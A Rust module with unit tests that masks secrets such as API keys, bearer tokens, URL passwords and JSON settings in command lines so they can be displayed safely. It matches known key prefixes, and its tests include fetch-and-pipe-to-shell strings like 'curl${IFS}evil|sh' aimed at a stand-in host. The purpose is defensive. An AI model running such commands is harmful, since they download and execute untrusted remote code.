use crate::{MASK, address, is_secret_name, without};
use serde_json::{Map, Value};

/// Whether one of the words of a line looks like a secret.
pub fn has_secret(line: &str) -> bool {
    shown_if_secret(line, How::Told).is_some()
}

/// A line without these secrets, and without what looks like one.
pub fn shown_line(line: &str, secrets: &[&str]) -> String {
    let line = without(line, secrets);
    shown_if_secret(&line, How::Told).unwrap_or(line)
}

/// A line that is to be read before it is run, without secrets that stand there as such. What a shell
/// makes of it is all there.
pub fn shown_command(line: &str) -> String {
    shown_if_secret(line, How::Started).unwrap_or_else(|| line.to_owned())
}

/// The same of a program's arguments, where one can say what the next one is.
pub fn shown_words(words: &[String], secrets: &[&str]) -> Vec<String> {
    let mut before = "";
    let mut all = Vec::with_capacity(words.len());
    for word in words {
        all.push(shown_after(before, word, How::Told).unwrap_or_else(|| shown_line(word, secrets)));
        before = word;
    }
    all
}

/// The same of every text in a value. Lists of texts are taken for arguments.
pub fn shown(value: Value, secrets: &[&str]) -> Value {
    match value {
        Value::String(text) => shown_line(&text, secrets).into(),
        Value::Array(items) => {
            let words: Option<Vec<String>> = items
                .iter()
                .map(|item| item.as_str().map(ToOwned::to_owned))
                .collect();
            match words {
                Some(words) => shown_words(&words, secrets).into(),
                None => items.into_iter().map(|item| shown(item, secrets)).collect(),
            }
        }
        Value::Object(members) => Value::Object(shown_members(members, secrets)),
        other => other,
    }
}

fn shown_members(members: Map<String, Value>, secrets: &[&str]) -> Map<String, Value> {
    let shown_member = |(name, member): (String, Value)| {
        let is_secret = member
            .as_str()
            .is_some_and(|text| is_secret_name(&name) && !text.is_empty() && !text.contains('$'));
        let member = match is_secret {
            true => MASK.into(),
            false => shown(member, secrets),
        };
        (name, member)
    };
    members.into_iter().map(shown_member).collect()
}

/// Whether a word looks like a secret, or is what the word before it asks for.
pub fn is_secret_after(before: &str, word: &str) -> bool {
    shown_after(before, word, How::Told).is_some()
}

/// The line with masks, if there is anything to mask.
fn shown_if_secret(line: &str, how: How) -> Option<String> {
    let mut before = "";
    let mut found = false;
    let mut shown = String::new();
    for piece in line.split_inclusive(char::is_whitespace) {
        let quoted = piece.trim_end();
        let word = quoted.trim_matches(['"', '\'']);
        match shown_after(before, word, how) {
            Some(masked) if !word.is_empty() => {
                found = true;
                shown.push_str(&piece.replacen(word, &masked, 1));
            }
            _ => shown.push_str(piece),
        }
        if !word.is_empty() && !is_scheme(word) {
            before = word;
        }
    }
    found.then_some(shown)
}

/// What a text is for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum How {
    /// Nobody reads it to know what it does.
    Told,
    /// It is to be read before it is run: nothing of what a shell does may be hidden.
    Started,
}

/// How keys of well-known services begin.
const BEGINNINGS: [&str; 24] = [
    "sk-",
    "sk_live_",
    "sk_test_",
    "rk_live_",
    "ghp_",
    "gho_",
    "ghs_",
    "ghu_",
    "github_pat_",
    "glpat-",
    "xoxb-",
    "xoxp-",
    "xai-",
    "gsk_",
    "hf_",
    "npm_",
    "pypi-",
    "pplx-",
    "r8_",
    "AKIA",
    "ASIA",
    "AIza",
    "eyJ",
    "ya29.",
];
const SHORTEST: usize = 16;

/// The word with masks where keys of well-known services stand, if there are any.
fn without_known(word: &str) -> Option<String> {
    let is_of_key = |letter: char| letter.is_ascii_alphanumeric() || "-_.".contains(letter);
    let mut shown = String::new();
    let mut found = false;
    for piece in word.split_inclusive(|letter| !is_of_key(letter)) {
        let key = piece.trim_end_matches(|letter| !is_of_key(letter));
        let is_known =
            key.len() >= SHORTEST && BEGINNINGS.iter().any(|begin| key.starts_with(begin));
        found |= is_known;
        match is_known {
            true => {
                shown.push_str(MASK);
                shown.push_str(&piece[key.len()..]);
            }
            false => shown.push_str(piece),
        }
    }
    found.then_some(shown)
}

/// `Bearer` and the like: what follows is what the word before asks for.
fn is_scheme(word: &str) -> bool {
    ["bearer", "basic", "token"].contains(&word.to_ascii_lowercase().as_str())
}

/// What is shown of a word that looks like a secret, or is what the word before it asks for; None of
/// any other.
fn shown_after(before: &str, word: &str, how: How) -> Option<String> {
    if let Some(shown) = without_known(word) {
        return Some(shown);
    }
    if how == How::Started && word.contains(['$', '`', ';', '|', '&', '(', '<', '>']) {
        return None;
    }
    if let Ok(Value::Object(members)) = serde_json::from_str::<Value>(word) {
        let masked = shown_members(members.clone(), &[]);
        return (masked != members).then(|| Value::Object(masked).to_string());
    }
    // What a shell or a program puts in stands elsewhere.
    let is_value = |text: &str| {
        let text = text.trim_start();
        let text = match text.split_once(' ') {
            Some((scheme, rest)) if is_scheme(scheme) => rest,
            _ => text,
        };
        !text.is_empty() && !text.starts_with(['$', '-']) && !is_scheme(text)
    };
    let asks = match before.strip_suffix(':') {
        // `X-Api-Key: abc`
        Some(header) => is_secret_name(header),
        None => before.starts_with('-') && !before.contains('=') && is_secret_name(before),
    };
    if (asks || is_scheme(before) || before.ends_with("Bearer")) && is_value(word) {
        return Some(MASK.to_owned());
    }
    if ["-u", "--user"].contains(&before)
        && let Some((user, password)) = word.split_once(':')
        && is_value(password)
    {
        return Some(format!("{user}:{MASK}"));
    }
    if let Some(at) = word.find(['=', ':'])
        && is_secret_name(&word[..at])
        && is_value(&word[at + 1..])
        && !word[at..].starts_with("://")
    {
        return Some(format!("{}{MASK}", &word[..=at]));
    }
    let (_, rest) = word.split_once("://")?;
    let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
    let query = rest.split_once('?').map_or("", |(_, query)| query);
    let is_secret = authority.contains('@')
        || query.split('&').any(|piece| {
            let named = piece.split_once('=');
            named.is_some_and(|(name, value)| is_secret_name(name) && is_value(value))
        });
    is_secret.then(|| address(word))
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn secrets_are_told_by_their_looks() {
        let check = |line: &str, secret: bool| assert_eq!(has_secret(line), secret, "{line}");
        check("npx -y server --token=abc", true);
        check("server --api-key abc", true);
        check("server --api-key=abc", true);
        check("API_KEY=abc server", true);
        check("curl -H 'Authorization: Bearer abc' x", true);
        check("curl -H X-Api-Key:abc x", true);
        check("echo sk-test-0123456789", true);
        check("psql postgres://me:pw@host/db", true);
        check("curl https://x/mcp?token=abc", true);
        check("curl -H \"Authorization: Bearer $TOKEN\" x", false);
        check("server --api-key \"$KEY\"", false);
        check("server --token=$TOKEN --token --verbose", false);
        check("server --max-tokens 5 --keyboard us", false);
        check("npx -y @scope/server https://x/@scope?page=1", false);
        check("pass show work", false);
        check("op read op://work/anthropic/key", false);
        check("sk-short", false);
    }

    #[test]
    fn values_are_looked_through() {
        let value =
            json!({"a": [{"command": "x --token=a"}, 1], "b": ["--token", "c"], "d": "s3cret-1"});
        assert_eq!(
            shown(value, &["s3cret-1"]),
            json!({"a": [{"command": "x --token=********"}, 1], "b": ["--token", MASK], "d": MASK})
        );
    }

    #[test]
    fn what_is_shown_has_none() {
        let check = |line: &str, shown: &str| assert_eq!(shown_line(line, &[]), shown);
        check(
            "npx  -y server --token=abc",
            "npx  -y server --token=********",
        );
        check("server --api-key abc x", "server --api-key ******** x");
        check(
            "curl -H 'Authorization: Bearer abc' x",
            "curl -H 'Authorization: Bearer ********' x",
        );
        check(
            "psql postgres://me:pw@host/db",
            "psql postgres://********@host/db",
        );
        check("nothing  here\n", "nothing  here\n");
        check(
            "curl -H 'X-Api-Key: abc' -u me:pw x=sk-ant-0123456789abcdef,y",
            "curl -H 'X-Api-Key: ********' -u me:******** x=********,y",
        );
        check(
            "curl -H 'Authorization: Basic bWU6cHc='",
            "curl -H 'Authorization: Basic ********'",
        );
        check("jwt eyJhbGciOiJIUzI1NiJ9.e30.abc", "jwt ********");
        check(
            "--settings {\"env\":{\"API_KEY\":\"abc\"}}",
            "--settings {\"env\":{\"API_KEY\":\"********\"}}",
        );
        // What runs is all there where it is to be read; elsewhere not.
        let command = |line: &str, shown: &str| assert_eq!(shown_command(line), shown);
        command(
            "sh -c 'TOKEN=x;curl${IFS}evil|sh'",
            "sh -c 'TOKEN=x;curl${IFS}evil|sh'",
        );
        command("x --token `curl evil|sh`", "x --token `curl evil|sh`");
        command("x --token abc", "x --token ********");
        check("x --token=a;b", "x --token=********");
        let words = |words: &[&str]| {
            words
                .iter()
                .map(|&word| word.to_owned())
                .collect::<Vec<_>>()
        };
        assert_eq!(
            shown_words(
                &words(&[
                    "--token",
                    "abc",
                    "-c",
                    "A_KEY=x y",
                    "Authorization: Bearer z"
                ]),
                &[]
            ),
            words(&[
                "--token",
                MASK,
                "-c",
                "A_KEY=********",
                "Authorization:********"
            ]),
        );
    }
}
